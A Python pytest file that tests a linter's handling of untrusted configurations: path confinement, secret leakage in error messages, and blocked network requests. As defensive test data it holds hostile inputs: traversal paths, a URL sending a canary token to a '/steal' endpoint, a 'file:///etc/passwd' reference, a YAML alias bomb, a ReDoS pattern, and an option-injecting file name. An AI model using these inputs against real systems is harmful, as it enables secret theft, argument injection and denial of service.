"""Whose configurations are trusted: what one that was only found may not reach, and that no error quotes somebody's file."""

from __future__ import annotations

import dataclasses
import os
import socket
import subprocess
import sys
import time
from typing import TYPE_CHECKING, Any, ClassVar

import pytest
import yaml

from linter.config.settings import Override, Settings, Suppression
from linter.model.path_patterns import fits
from linter.model.setting import settings_of, walk
from tests.servers import Handler, Server, running
from tests.support import FAULTY, PAGE, ROOT, check, kommunlint

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

CANARY = "KANARIE7429"
PATHS = {name: setting for name, setting, _ in walk(Settings, {}) if setting.is_path}
OWN_RULE = {
    "id": "egen",
    "title": "Egen regel",
    "check": {"selector": "p", "expect": "exists"},
    "examples": {"pass": [{"name": "a", "html": "<p>a"}], "fail": [{"name": "b", "html": "<b>b", "finds": [1]}]},
}


class _Asked(Handler):
    """Answers nothing and remembers what was asked."""

    asked: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        """Take the address."""
        self.asked.append(self.path)
        self.send_error(404)

    def do_HEAD(self) -> None:
        """Do as for GET."""
        self.do_GET()


@pytest.fixture(name="listener")
def _listener() -> Iterator[str]:
    """Return the origin of a server that nobody is to ask anything."""
    _Asked.asked.clear()
    with running(Server(("127.0.0.1", 0), _Asked)) as origin:
        yield origin
    assert [] == _Asked.asked


@pytest.fixture(name="site")
def _site(tmp_path: Path) -> Path:
    """Return a stranger's folder, beside which a file and a folder of somebody else lie."""
    (tmp_path / "secret.toml").write_text(f'token = "{CANARY}"\n', "utf-8")
    (tmp_path / "elsewhere").mkdir()
    site = tmp_path / "site"
    site.mkdir()
    (site / "a.html").write_text(PAGE, "utf-8")
    (site / "way").symlink_to("../elsewhere")
    return site


def _configure(site: Path, name: str, value: str) -> None:
    table, _, key = name.rpartition(".")
    (site / "kommunlint.toml").write_text(f"{f'[{table}]' if table else ''}\n{key} = {value}\n", "utf-8")


def _complaint(site: Path, *flags: str, **env: str) -> str:
    ran = check("a.html", *flags, cwd=site, **env)
    assert (2, "") == (ran.code, ran.out)
    assert CANARY not in ran.err
    return ran.complaint


@pytest.mark.parametrize("name", [*PATHS, "extends"])
@pytest.mark.parametrize("value", ["../secret.toml", "way/x.toml", "{folder}/secret.toml", "a/../../secret.toml"])
def test_a_path_of_a_found_configuration_stays_in_its_folder(site: Path, name: str, value: str) -> None:
    said = f'"{value.format(folder=site.parent)}"'
    _configure(site, name, f"[{said}]" if name == "extends" else said)
    assert [] == [part for part in (f"$.{name}", "--trust") if part not in _complaint(site)]
    assert "--trust" not in check("a.html", "--trust", "..", cwd=site).err
    assert "--trust" not in check("a.html", "--config", "kommunlint.toml", cwd=site).err
    assert 0 == check("a.html", "--isolated", cwd=site).code


def test_every_setting_that_is_a_path_is_marked_as_one() -> None:
    def classes(kind: type[Any]) -> Iterator[type[Any]]:
        yield kind
        for one in settings_of(kind).values():
            if one.table is not None:
                yield from classes(one.table)

    unmarked = [
        f"{kind.__name__}.{field.name}"
        for top in (Settings, Override, Suppression)
        for kind in classes(top)
        for field in dataclasses.fields(kind)
        if "Path" in str(field.type) and not settings_of(kind)[field.name].is_path
    ]
    assert ([], True) == (unmarked, {"rules_path", "links.ca_file", "browser.login"} <= PATHS.keys())


@pytest.mark.parametrize(
    "command", [["check", "a.html"], ["facts", "a.html"], ["rules"], ["rule", "link-empty"], ["config"], ["test-rules"]]
)
def test_every_command_holds_to_it(site: Path, command: list[str]) -> None:
    _configure(site, "rules_path", '"../secret.toml"')
    for flags, is_refused in (([], True), (["--trust", "."], False), (["--isolated"], False)):
        ran = kommunlint(*command, *flags, cwd=site)
        assert (is_refused, False) == ("--trust" in ran.err, CANARY in ran.out + ran.err), flags


def test_a_path_that_nobody_wrote_stays_too(site: Path) -> None:
    (site / ".kommunlint").symlink_to("../elsewhere")
    for text in ("", None):
        if text is not None:
            (site / "kommunlint.toml").write_text(text, "utf-8")
        assert "$.links.cache" in _complaint(site)
        (site / "kommunlint.toml").unlink(missing_ok=True)


def test_what_a_file_extends_is_trusted_as_it_is(site: Path) -> None:
    (site / "more").mkdir()
    (site / "more/b.toml").write_text('rules_path = "../../secret.toml"', "utf-8")
    _configure(site, "extends", '["more/b.toml"]')
    assert "b.toml::$.rules_path" in _complaint(site)
    (site / "more/b.toml").write_text("[rules.updated-date-stale]\nmax_age_days = 1\n", "utf-8")
    assert 1 == check("a.html", "--fail-on", "warning", cwd=site).code
    (site.parent / "above.toml").write_text('extends = ["site/more/b.toml"]', "utf-8")
    assert 1 == check("a.html", "--fail-on", "warning", "--config", "../above.toml", cwd=site).code


def test_a_configuration_of_a_folder_below_is_found_too(site: Path) -> None:
    (site / "below").mkdir()
    (site / "below/b.html").write_text(PAGE, "utf-8")
    (site / "below/kommunlint.toml").write_text('rules_path = "../../secret.toml"', "utf-8")
    ran = check(".", cwd=site)
    assert (2, True, False) == (ran.code, "--trust" in ran.complaint, CANARY in ran.err)
    assert 0 == check(".", "--isolated", cwd=site).code


def test_trust_is_of_a_folder_and_of_what_is_below_it(site: Path) -> None:
    _configure(site, "links.cache", '"../memory.sqlite"')
    (site / "below").mkdir()
    assert [0, 0, 2] == [check("a.html", "--trust", folder, cwd=site).code for folder in ("..", ".", "below")]
    ran = check("a.html", "--trust", "gone", cwd=site)
    assert (2, True) == (ran.code, "--trust: gone" in ran.complaint)


def _as_rule(site: Path, text: str) -> list[str]:
    (site / "kommunlint.toml").write_text('rules_path = "x.yaml"', "utf-8")
    (site / "x.yaml").write_text(text, "utf-8")
    return []


def _as_file_in_a_folder_of_rules(site: Path, text: str) -> list[str]:
    (site / "rules").mkdir()
    (site / ".env").write_text(text, "utf-8")
    (site / "rules/x.yaml").symlink_to("../.env")
    (site / "kommunlint.toml").write_text('rules_path = "rules"', "utf-8")
    return []


def _as_extended(site: Path, text: str) -> list[str]:
    (site / "kommunlint.toml").write_text('extends = ["x.toml"]', "utf-8")
    (site / "x.toml").write_text(text, "utf-8")
    return []


def _as_configuration(site: Path, text: str) -> list[str]:
    (site / ".env").write_text(text, "utf-8")
    (site / "kommunlint.toml").symlink_to(".env")
    return []


def _as_baseline(site: Path, text: str) -> list[str]:
    (site / "x.json").write_text(text, "utf-8")
    return ["--baseline", "x.json"]


def _as_login(site: Path, text: str) -> list[str]:
    (site / "kommunlint.toml").write_text('[browser]\nlogin = "x"', "utf-8")
    (site / "x").write_text(text, "utf-8")
    return ["--browser", "--trust", "."]


def _as_axe(site: Path, text: str) -> list[str]:
    (site / "kommunlint.toml").write_text('[browser]\naxe = "x"', "utf-8")
    (site / "x").write_text(text, "utf-8")
    return ["--browser"]


READERS = [_as_rule, _as_file_in_a_folder_of_rules, _as_extended, _as_configuration, _as_baseline, _as_login, _as_axe]
SECRETS = {
    "npmrc": f"//registry.example/:_authToken={CANARY}\n",
    "git": f"[http]\n\textraheader = AUTHORIZATION: basic {CANARY}\n",
    "key": f"-----BEGIN OPENSSH PRIVATE KEY-----\n{CANARY}\n-----END OPENSSH PRIVATE KEY-----\n",
    "env": f"TOKEN={CANARY}\n",
    "word": CANARY,
    "yaml": f"{CANARY}: {CANARY}\n",
    "yaml-twice": f"{CANARY}: 1\n{CANARY}: 2\n",
    "yaml-tag": f"a: !{CANARY} b\n",
    "yaml-alias": f"a: *{CANARY}\n",
    "yaml-of-a-rule": f"id: {CANARY}\ntitle: {CANARY}\nseverity: {CANARY}\ncheck: {CANARY}\nexamples: {CANARY}\n",
    "yaml-of-a-login": f"start: {CANARY}\nsteps: {CANARY}\n",
    "toml": f'language = "{CANARY}"\nextends = ["{CANARY}"]\n',
    "toml-key": f"{CANARY} = 1\n",
    "toml-key-twice": f"{CANARY} = 1\n{CANARY} = 2\n",
    "json": f'{{"auths": {{"registry.example": "{CANARY}"}}}}',
    "json-word": f'"{CANARY}"',
    "json-of-a-baseline": f'{{"kommunlint_baseline": 1, "pages": {{"{CANARY}": [{{"rule": 3, "{CANARY}": 1}}]}}}}',
    "bytes": f"\x00{CANARY}",
}  # fmt: skip


@pytest.mark.parametrize("reader", READERS, ids=lambda one: one.__name__.removeprefix("_as_"))
@pytest.mark.parametrize("secret", SECRETS)
def test_nothing_of_a_foreign_file_is_told(site: Path, reader: Callable[[Path, str], list[str]], secret: str) -> None:
    flags = reader(site, SECRETS[secret])
    assert "" != _complaint(site, *flags)


def test_certificates_that_are_none_are_not_told(site: Path) -> None:
    (site / "x").write_text(SECRETS["key"], "utf-8")
    _configure(site, "links.ca_file", '"x"')
    ran = check("https://127.0.0.1:9/", "--format", "json", cwd=site)
    assert (3, False) == (ran.code, CANARY in ran.out + ran.err)


def test_a_rule_of_ones_own_is_told_in_full(site: Path) -> None:
    (site / "rules").mkdir()
    (site / "rules/egen.yaml").write_text(yaml.safe_dump(OWN_RULE | {"severity": "svår"}), "utf-8")
    _configure(site, "rules_path", '"rules"')
    assert "svår" in _complaint(site)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param('[browser]\npassword = "${SITE_WORD}"', id="password"),
        pytest.param('[browser.headers]\nX-Word = "a ${SITE_WORD}"', id="header"),
        pytest.param('[browser.cookies]\nword = "${SITE_WORD}"', id="cookie"),
        pytest.param('[browser]\nlogin = "login.yaml"', id="login"),
        pytest.param('[browser]\nallow_hosts = ["127.0.0.1"]', id="hosts"),
        pytest.param('[links]\nnameservers = ["127.0.0.1"]', id="name-servers"),
    ],
)
def test_the_network_is_not_asked_by_what_a_stranger_says(site: Path, listener: str, text: str) -> None:
    start = f"{listener}/steal?t=${{SITE_WORD}}"
    (site / "login.yaml").write_text(f'start: "{start}"\nsteps:\n  - {{wait_for: body}}\n', "utf-8")
    (site / "kommunlint.toml").write_text(text, "utf-8")
    for flags in (["--browser"], ["--links"], [f"{listener}/"]):
        assert "--trust" in _complaint(site, *flags, SITE_WORD=CANARY)
    assert 0 == check("a.html", cwd=site).code, "what asks nobody needs no trust"


def test_a_login_starts_where_it_was_named(site: Path) -> None:
    (site / "login.yaml").write_text("start: http://127.0.0.1:9/\nsteps:\n  - {wait_for: body}\n", "utf-8")
    _configure(site, "browser.login", '"login.yaml"')
    assert "login.yaml::$.start" in _complaint(site, "--browser", "--trust", ".")


@pytest.mark.parametrize("pattern", ["*a" * 200 + "b", "**/" * 14 + "b", "**a" * 300, "?*" * 400 + "b"])
def test_no_pattern_takes_long(pattern: str) -> None:
    started = time.process_time()
    assert not fits(pattern, "a/" * 1000 + "a" * 3000 + "c")
    assert time.process_time() - started < 1


LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{after}: &{after} [{', '.join([f'*{before}'] * 10)}]\n"
    for before, after in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        pytest.param(LAUGHS, "stands for more than", id="aliases-of-aliases"),
        pytest.param("a: &a [*a]\n", "an alias", id="alias-of-itself"),
        pytest.param("[" * 100_000, "x.yaml:1", id="lists-in-lists"),
        pytest.param("{a: " * 900, "nested more than", id="tables-in-tables"),
        pytest.param("- " * 30_000, "nested more than", id="blocks-in-blocks"),
        pytest.param(f"a: {'1' * 9000}\n", "not valid YAML", id="number-of-9000-digits"),
        pytest.param("? [a]\n: 1\n", "a key is a list", id="list-as-a-key"),
        pytest.param("a" * 1_100_000, "larger than 1,048,576 bytes", id="huge"),
    ],
)
@pytest.mark.parametrize("reader", [_as_rule, _as_login])
def test_yaml_cannot_grow(site: Path, reader: Callable[[Path, str], list[str]], text: str, words: str) -> None:
    flags = reader(site, text)
    assert words.replace("x.yaml", "x.yaml" if reader is _as_rule else "x") in _complaint(site, *flags)


def _option(**more: Any) -> dict[str, Any]:  # noqa: ANN401  JSON Schema
    return OWN_RULE | {"options": {"word": {"type": "string", "default": "a" * 40 + "!", **more}}}


def test_an_option_can_neither_hang_nor_fetch(site: Path, listener: str) -> None:
    for more in ({"pattern": "^(a|a)*$"}, {"pattern": "("}, {"$ref": f"{listener}/x"}, {"$ref": "file:///etc/passwd"}):
        (site / "egen.yaml").write_text(yaml.safe_dump(_option(**more)), "utf-8")
        _configure(site, "rules_path", '"egen.yaml"')
        assert "egen.yaml::$.options" in _complaint(site)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("a = " + "[" * 100_000, id="lists"),
        pytest.param(".".join("a" * 40_000) + " = 1", id="dots"),
        pytest.param("jobs = " + "1" * 9000, id="digits"),
        pytest.param("select = [" + ",".join(f"{{a={n}}}" for n in range(60_000)) + "]", id="unlike-tables"),
    ],
)
@pytest.mark.parametrize("name", ["kommunlint.toml", "pyproject.toml"])
def test_a_configuration_cannot_hang(site: Path, name: str, text: str) -> None:
    (site / name).write_text(f"[tool.kommunlint]\n{text}" if name == "pyproject.toml" else text, "utf-8")
    assert name in _complaint(site)
    if name == "pyproject.toml":
        (site / name).write_text(f"# kommunlint\n[tool.other]\n{text}", "utf-8")
        assert 0 == check("a.html", cwd=site).code


def test_a_deep_baseline_is_none(site: Path) -> None:
    (site / "x.json").write_text("[" * 100_000, "utf-8")
    assert "not valid JSON" in _complaint(site, "--baseline", "x.json")


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _socket(path: Path) -> None:
    folder = os.open(path.parent, os.O_RDONLY)
    with socket.socket(socket.AF_UNIX) as made:  # whose addresses are shorter than folders of tests
        made.bind(f"/proc/self/fd/{folder}/{path.name}")
    os.close(folder)


def _device(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _loop(path: Path) -> None:
    path.symlink_to(path.name)


@pytest.mark.parametrize("make", [_fifo, _socket, _device, _loop], ids=lambda one: one.__name__.strip("_"))
@pytest.mark.parametrize("place", ["configuration", "extended", "rule", "rules", "baseline", "login", "axe"])
def test_only_regular_files_are_read(site: Path, place: str, make: Callable[[Path], None]) -> None:
    (site / "rules").mkdir()
    name = {"configuration": "kommunlint.toml", "extended": "x.toml", "rule": "x.yaml", "rules": "rules/x.yaml"}.get(
        place, "x"
    )
    said = {"extended": 'extends = ["x.toml"]', "rule": 'rules_path = "x.yaml"', "rules": 'rules_path = "rules"'}
    said |= {"login": '[browser]\nlogin = "x"', "axe": '[browser]\naxe = "x"'}
    if place in said:
        (site / "kommunlint.toml").write_text(said[place], "utf-8")
    make(site / name)
    flags = {"baseline": ["--baseline", "x"], "login": ["--browser"], "axe": ["--browser"]}.get(place, [])
    started = time.monotonic()
    trusts = ["--trust", "/"] if make is not _loop or place != "configuration" else []
    assert name.rpartition("/")[2] in _complaint(site, *flags, *trusts)
    assert time.monotonic() - started < 30


@pytest.mark.parametrize("way", ["/dev/stdin", "pipe", "/dev/null"])
def test_a_configuration_that_is_named_may_be_a_pipe(site: Path, way: str) -> None:
    words = [
        sys.executable,
        "-m",
        "linter",
        "check",
        "a.html",
        "--today",
        "2030-01-01",
        "--fail-on",
        "warning",
        "--config",
    ]
    given = b'ignore = ["updated-date-stale"]\n'
    env = os.environ | {"PYTHONPATH": str(ROOT)}
    reading, writing = os.pipe()
    os.write(writing, given)
    os.close(writing)
    named = f"/dev/fd/{reading}" if way == "pipe" else way
    done = subprocess.run(
        [*words, named], cwd=site, input=given, env=env, pass_fds=[reading], check=False, capture_output=True
    )
    os.close(reading)
    assert (1 if way == "/dev/null" else 0) == done.returncode, done.stderr


def _hook() -> dict[str, Any]:
    (hook,) = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))
    return dict(hook)


@pytest.mark.parametrize(
    ("args", "code"),
    [
        pytest.param(None, 1, id="as-the-hook-comes"),
        pytest.param(["--language", "en", "--"], 1, id="own-arguments"),
        pytest.param(["--language", "en"], 2, id="own-arguments-without-an-end"),
    ],
)
def test_a_name_of_a_tracked_file_is_no_option(tmp_path: Path, args: list[str] | None, code: int) -> None:
    repository = tmp_path / "repository"
    odd = "--output=html=../stolen.html"
    (repository / odd).parent.mkdir(parents=True)
    (repository / odd).write_text(FAULTY, "utf-8")
    for words in (["init", "-q"], ["add", "--", odd]):
        assert 0 == subprocess.run(["git", *words], cwd=repository, check=False).returncode
    tracked = subprocess.run(
        ["git", "ls-files", "-z"], cwd=repository, capture_output=True, text=True, check=True
    ).stdout
    hook = _hook()
    program, *words = hook["entry"].split()
    assert "kommunlint" == program
    ran = kommunlint(
        *words, *(hook["args"] if args is None else args), *tracked.strip("\0").split("\0"), cwd=repository
    )
    assert (code, False) == (ran.code, (tmp_path / "stolen.html").exists())
    assert "--output=html=.." in ran.out + ran.err


def test_links_beside_the_memory_are_not_written_through(site: Path) -> None:
    theirs = site.parent / "theirs"
    theirs.write_text(CANARY, "utf-8")
    (site / ".kommunlint").mkdir()
    (site / ".kommunlint/links.sqlite-wal").symlink_to(theirs)
    (site / ".kommunlint/.gitignore").symlink_to(site.parent / "made")
    assert 0 == check("a.html", "--links", cwd=site).code
    assert (CANARY, False) == (theirs.read_text("utf-8"), (site.parent / "made").exists())
